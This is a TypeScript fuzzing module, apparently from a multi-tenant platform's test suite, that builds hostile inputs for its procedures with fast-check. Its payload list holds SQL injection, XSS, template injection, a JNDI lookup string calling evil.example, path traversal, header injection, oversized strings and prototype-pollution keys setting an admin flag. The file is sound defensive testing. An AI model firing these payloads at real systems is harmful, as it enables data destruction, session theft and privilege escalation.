// Hostile inputs for fuzzing: injection payloads, unicode edge cases, oversized
// strings, wrong types and prototype-pollution keys, shaped by a procedure's
// schema where that gets them past the first checks, and free-form otherwise.
import fc from 'fast-check';
import type { JsonSchema } from './procedure-catalog';
import { arbitraryFor } from './schema-arbitrary';

export const ONE_MEGABYTE = 'A'.repeat(1024 * 1024);

export const INJECTION_PAYLOADS = [
  "'; drop table platform_tenant; --",
  "' or '1'='1",
  '1; select pg_sleep(5)',
  "Robert'); delete from platform_user where ('1'='1",
  '<img src=x onerror=alert(1)>',
  '<script>alert(document.cookie)</script>',
  '"><svg onload=alert(1)>',
  '[lien](javascript:alert(1))',
  '![x](https://evil.example/x.png" onerror="alert(1))',
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  'a\r\nSet-Cookie: ancrage_session=stolen',
  '%00%0d%0a',
] as const;

export const UNICODE_EDGE_CASES = [
  '\u0000',
  'nul\u0000inside',
  '\uD800',
  '\uDFFF\uD800',
  '\u202Egnp.exe',
  'e\u0301\u0301\u0301\u0301',
  '\u200B\u200C\u200D\uFEFF',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '𝕳𝖊𝖑𝖑𝖔',
  'ﷺ'.repeat(50),
  'Zalgo: Z̸̡̛̛̖̗͎̮͇̟̝̗͔̖̱̣̯̪̼͚̳̺̺̹̫̬̗̖̝̰̼̀͂̆̌̈́̓͐̓͊̾͂̈́͘͘͘ả̶̡̡̛̯̝̼̣',
  'İıſK',
  ' ',
  '',
] as const;

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom<string>(...INJECTION_PAYLOADS, ...UNICODE_EDGE_CASES) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.constantFrom(ONE_MEGABYTE, `${INJECTION_PAYLOADS[4]}${'x'.repeat(300_000)}`) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
);

/** Values of the wrong type or range for any field. */
const wrongValue: fc.Arbitrary<unknown> = fc.constantFrom<unknown>(
  null,
  undefined,
  true,
  0,
  -1,
  -0,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  1e308,
  2 ** 53 + 1,
  [],
  {},
  [[[[[[]]]]]],
  ONE_MEGABYTE,
  '2026-02-30',
  '00000000-0000-0000-0000-000000000000',
);

/** Objects carrying `__proto__`, `constructor` and `prototype` as own keys, as JSON.parse makes them. */
const pollutionKeys: fc.Arbitrary<Record<string, unknown>> = fc.constantFrom(
  JSON.parse('{"__proto__": {"polluted": "yes", "isPlatformAdmin": true}}') as Record<string, unknown>,
  JSON.parse('{"constructor": {"prototype": {"polluted": "yes"}}}') as Record<string, unknown>,
  JSON.parse('{"prototype": {"polluted": "yes"}, "__proto__": null}') as Record<string, unknown>,
);

function withOwnKeys(base: unknown, extra: Record<string, unknown>): unknown {
  if (!base || typeof base !== 'object' || Array.isArray(base)) return base;
  const merged = JSON.parse(JSON.stringify(base)) as Record<string, unknown>;
  for (const key of Object.keys(extra)) Object.defineProperty(merged, key, { value: extra[key], enumerable: true, writable: true, configurable: true });
  return merged;
}

/** The same object with one property replaced by a wrong value, or dropped. */
function withBrokenField(base: unknown): fc.Arbitrary<unknown> {
  if (!base || typeof base !== 'object' || Array.isArray(base) || Object.keys(base).length === 0) return fc.constant(base);
  const keys = Object.keys(base);
  return fc.tuple(fc.constantFrom(...keys), fc.option(wrongValue, { nil: undefined, freq: 4 })).map(([key, value]) => {
    const copy = { ...(base as Record<string, unknown>) };
    if (value === undefined) delete copy[key];
    else copy[key] = value;
    return copy;
  });
}

/** Hostile inputs for a procedure: schema-shaped with hostile texts, then broken fields, pollution keys, random JSON. */
export function hostileInputs(schema: JsonSchema | undefined): fc.Arbitrary<unknown> {
  const shaped = schema ? arbitraryFor(schema, '', { text: () => hostileString }) : fc.constant(undefined);
  return fc.oneof(
    { weight: 4, arbitrary: shaped },
    { weight: 3, arbitrary: shaped.chain(withBrokenField) },
    { weight: 1, arbitrary: fc.tuple(shaped, pollutionKeys).map(([base, keys]) => withOwnKeys(base ?? {}, keys)) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
    { weight: 1, arbitrary: wrongValue },
  );
}
